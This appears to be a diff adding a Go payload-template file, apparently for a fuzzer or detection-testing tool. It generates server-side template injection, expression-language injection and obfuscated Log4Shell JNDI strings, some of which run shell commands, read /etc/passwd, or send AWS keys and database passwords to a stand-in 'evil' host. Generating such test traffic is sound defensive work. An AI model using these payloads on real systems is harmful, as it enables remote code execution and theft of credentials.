@@ -1,0 +1,38 @@
+package south
+
+func templateWords() map[string][]string {
+	return map[string][]string{
+		"sum":    split("‹2..99›*‹2..99›|‹2..9›*'‹2..9›'|‹100..999›+‹100..999›|‹100..9000›*‹100..9000›"),
+		"jndi":   split("ldap|rmi|dns|ldaps|iiop|corba|nds|http"),
+		"target": split("‹evil›/‹letters›|‹evil›:1389/‹upper›|${hostName}.‹evil›/‹letters›|‹letters›.${env:‹AWS_SECRET_ACCESS_KEY|USER|PATH›}.‹evil›/a|127.0.0.1#‹evil›/‹letters›|‹evil›/o=‹letters›"),
+	}
+}
+
+func everyText() []string { return append(textSpots(), fieldSpots()...) }
+
+func attackTemplates() []family {
+	about := func(class, name string, say ...string) family {
+		return family{name: class + "/" + name, class: class, at: everyText(), say: say}
+	}
+	jndi := func(name string, say ...string) family {
+		return family{name: "jndi/" + name, class: "jndi", at: append([]string{"header GET ~ user-agent", "header GET ~ x-api-version", "header GET ~ x-forwarded-for", "header POST ~ referer", "header GET ~ accept-language"}, fieldSpots()...), say: say}
+	}
+	return []family{
+		about("ssti", "arithmetic", "{{‹sum›}}", "‹prose›{{ ‹sum› }}", "${{‹sum›}}", "<%= ‹sum› %>", "#{‹sum›}", "‹h›${‹sum›}", "*{‹sum›}", "@(‹sum›)", "{{=‹sum›}}", "[[${‹sum›}]]", "{‹sum›}}{{‹sum›}}"),
+		about("ssti", "jinja-objects", "{{ ''.__class__.__mro__[‹1..2›].__subclasses__()[‹40..500›]('/etc/passwd').read() }}", "{{ config.items() }}‹letters›", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('‹unixcmd›').read() }}", "{{ cycler.__init__.__globals__.os.popen('‹unixcmd›').read() }}", "{{ request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('‹unixcmd›')['read']() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% if '‹warning|Popen›' in x.__name__ %}{{ x }}{% endif %}{% endfor %}", "{{ lipsum|attr('__globals__')|attr('get')('os') }}‹num›", "‹prose› {{ url_for.__globals__['current_app'].config }}"),
+		about("ssti", "twig-and-smarty", "{{_self.env.registerUndefinedFilterCallback('‹exec|system›')}}{{_self.env.getFilter('‹unixcmd›')}}", "{{['‹unixcmd›']|filter('system')}}", "{system('‹unixcmd›')}", "{php}echo `‹unixcmd›`;{/php}", "{{ ['‹unixcmd›',0]|sort('passthru') }}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php ‹letters›\",self::clearConfig())}", "{{ app.request.query.filter(0,'‹unixcmd›',1024,{'options':'system'}) }}", "{if passthru('‹unixcmd›')}{/if}"),
+		about("ssti", "freemarker-velocity", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"‹unixcmd›\") }", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('‹unixcmd›')", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"‹letters›\").start()}", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"‹unixcmd›\")", "<#assign ‹letters›=object?api.class.getResource('/').openStream()>", "#set($e=\"e\");$e.getClass().forName(\"java.lang.‹System|Runtime›\")"),
+		about("ssti", "erb-and-slim", "<%= `‹unixcmd›` %>", "<%= system('‹unixcmd›') %>", "<%= File.open('/‹secret›').read %>", "#{ %x|‹unixcmd›| }", "<%= IO.popen('‹unixcmd›').readlines() %>", "‹prose›<%= Dir.entries('/‹letters›') %>", "- require('child_process').execSync('‹unixcmd›')"),
+		about("ssti", "js-engines", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{lookup string.sub \"constructor\"}}{{/with}}{{/with}}‹letters›", "#{global.process.mainModule.require('child_process').execSync('‹unixcmd›')}", "<%= global.process.mainModule.constructor._load('child_process').execSync('‹unixcmd›') %>", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('‹unixcmd›')\")()}}", "${require('child_process').execSync('‹unixcmd›')}", "{{= global.process.env.‹upper› }}"),
+		about("ssti", "go-and-others", "{{ .System \"‹unixcmd›\" }}", "{{ printf \"%s\" (.ReadFile \"/‹secret›\") }}", "{{ define \"T1\" }}alert(‹num›){{ end }}{{ template \"T1\" }}", "${T(java.lang.System).getenv()}‹letters›", "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c ‹letters›\"); }", "${__import__('os').popen('‹unixcmd›').read()}", "<% import os %>${os.popen('‹unixcmd›').read()}", "{% import os %}{{ os.system('‹unixcmd›') }}"),
+		about("el", "spring", "${T(java.lang.Runtime).getRuntime().exec('‹unixcmd›')}", "#{T(java.lang.System).getProperty('‹user.dir|java.home›')}", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('‹unixcmd›').getInputStream(),null)", "#{new java.lang.ProcessBuilder({'sh','-c','‹unixcmd›'}).start()}", "__${T(java.lang.Runtime).getRuntime().exec('‹unixcmd›')}__::.x", "#this.getClass().forName('java.lang.‹Runtime|System›')"),
+		about("el", "ognl", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#p=new java.lang.ProcessBuilder('‹letters›')).(#p.start())}", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('‹letters›',‹num›*‹num›)}", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('‹unixcmd›').getInputStream()))}", "%{#application['org.apache.tomcat.InstanceManager'].newInstance('‹letters›')}", "redirect:${#context[\"xwork.MethodAccessor.denyMethodExecution\"]=‹false|null›}", "(#cmd='‹unixcmd›').(@java.lang.Runtime@getRuntime().exec(#cmd))"),
+		about("el", "jsp-and-jsf", "${applicationScope}‹letters›", "${pageContext.request.getSession().setAttribute(\"‹letters›\",\"‹letters›\")}", "#{session.getAttribute(\"rtc\").setAccessible(true)}‹letters›", "${''.getClass().forName('java.lang.Runtime').getMethods()[‹1..9›].invoke(null,'‹unixcmd›')}", "#{request.getClass().getClassLoader().loadClass('java.lang.‹Runtime|System›')}", "${facesContext.getExternalContext().redirect('http://‹evil›')}", "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"‹sum›\")}"),
+		about("el", "mvel-and-scripts", "new java.util.Scanner(Runtime.getRuntime().exec(\"‹unixcmd›\").getInputStream()).next()", "java.lang.Runtime.getRuntime().exec('‹unixcmd›')", "${script:javascript:java.lang.Runtime.getRuntime().exec('‹unixcmd›')}", "${url:UTF-8:http://‹evil›/‹letters›}", "${dns:address|‹letters›.‹evil›}", "\"‹letters›\".class.forName(\"java.lang.Runtime\").getRuntime().exec(\"‹unixcmd›\")", "this.class.classLoader.loadClass('groovy.util.Eval').me('\"‹unixcmd›\".execute().text')"),
+		about("el", "class-loader-fields", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=‹letters›", "class.classLoader.URLs[‹0..9›]=jar:http://‹evil›/‹letters›.jar!/", "class['classLoader'].resources.dirContext.docBase=//‹evil›/‹letters›", "spring.cloud.function.routing-expression=T(java.lang.Runtime).getRuntime().exec('‹unixcmd›')"),
+		jndi("plain", "${jndi:‹jndi›://‹target›}", "‹h›${jndi:‹jndi›://‹target›}", "‹browser› ${jndi:‹jndi›://‹target›}", "'${jndi:‹jndi›://‹target›}'"),
+		jndi("lower-upper", "${${lower:j}ndi:‹jndi›://‹target›}", "${${lower:j}${upper:n}${lower:d}${upper:i}:‹jndi›://‹target›}", "${j${lower:N}di:${lower:L}dap://‹target›}", "‹h›${jn${lower:d}i:r${upper:m}i://‹target›}"),
+		jndi("default-values", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://‹target›}", "${${env:‹upper›:-j}ndi${env:‹upper›:-:}‹jndi›://‹target›}", "${${sys:‹letters›:-j}ndi:‹jndi›://‹target›}", "${jnd${‹letters›:‹letters›:-i}:ldap${::-:}//‹target›}", "${${date:'j'}${date:'n'}di:‹jndi›://‹target›}"),
+		jndi("lookups", "${env:‹AWS_ACCESS_KEY_ID|DB_PASSWORD|‹upper››}${jndi:dns://‹evil›}", "${${::-${::-$${::-j}}}ndi:‹jndi›://‹target›}", "${jndi:‹jndi›:${::-/}/‹target›}", "${main:\\${jndi:ldap://‹target›}}", "%24%7Bjndi:‹jndi›://‹target›%7D", "${jndi:${lower:l}${lower:d}a${lower:p}://‹target›}", "${ctx:‹letters›:-${jndi:‹jndi›://‹target›}}"),
+	}
+}
